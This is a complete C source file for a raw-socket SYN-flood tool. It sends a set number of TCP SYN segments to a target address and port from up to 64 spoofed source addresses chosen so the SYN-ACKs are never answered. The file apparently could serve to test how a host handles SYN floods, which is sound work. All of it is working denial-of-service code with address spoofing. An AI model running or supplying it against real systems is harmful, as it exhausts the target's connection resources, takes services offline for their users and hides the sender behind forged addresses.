/* SPDX-License-Identifier: GPL-2.0-only */
/* SYNs to one port from addresses that nobody has, which therefore never answer the SYN-ACK:
 *
 *     synflood ADDRESS PORT FIRST-SOURCE COUNT
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/ip.h>
#include <linux/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define SOURCES 64 /* addresses; beyond these, ports */

struct segment {
	struct iphdr ip; /* the kernel fills in what is 0: length, checksum, id */
	struct tcphdr tcp;
} __attribute__((packed));

static uint32_t sum_of(const void *data, size_t size)
{
	const uint8_t *at = data;
	uint32_t sum = 0;

	for (size_t i = 0; i + 1 < size; i += 2)
		sum += at[i] << 8 | at[i + 1];
	return sum;
}

/* RFC 9293 3.1: over the addresses, the protocol, the length, and the segment. */
static uint16_t checksum(const struct segment *s)
{
	uint32_t sum = sum_of(&s->ip.saddr, 8) + IPPROTO_TCP + sizeof(s->tcp) +
		       sum_of(&s->tcp, sizeof(s->tcp));

	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct in_addr first;
	int fd, count;

	if (argc != 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
	    inet_pton(AF_INET, argv[3], &first) != 1) {
		fputs("usage: synflood ADDRESS PORT FIRST-SOURCE COUNT\n", stderr);
		return 2;
	}
	count = atoi(argv[4]);
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	for (int i = 0; fd >= 0 && i < count; i++) {
		struct timespec pause = { .tv_nsec = 200000 };
		struct segment s = {
			.ip = { .version = 4,
				.ihl = 5,
				.ttl = 64,
				.protocol = IPPROTO_TCP,
				.saddr = htonl(ntohl(first.s_addr) + i % SOURCES),
				.daddr = to.sin_addr.s_addr },
			.tcp = { .source = htons(1024 + i),
				 .dest = htons(atoi(argv[2])),
				 .seq = htonl(i * 12345),
				 .doff = 5,
				 .syn = 1,
				 .window = htons(1024) },
		};

		s.tcp.check = checksum(&s);
		if (sendto(fd, &s, sizeof(s), 0, (struct sockaddr *)&to, sizeof(to)) < 0)
			break;
		nanosleep(&pause, NULL);
		if (i == count - 1)
			return 0;
	}
	fprintf(stderr, "synflood: cannot send: %s\n", strerror(errno));
	return 1;
}
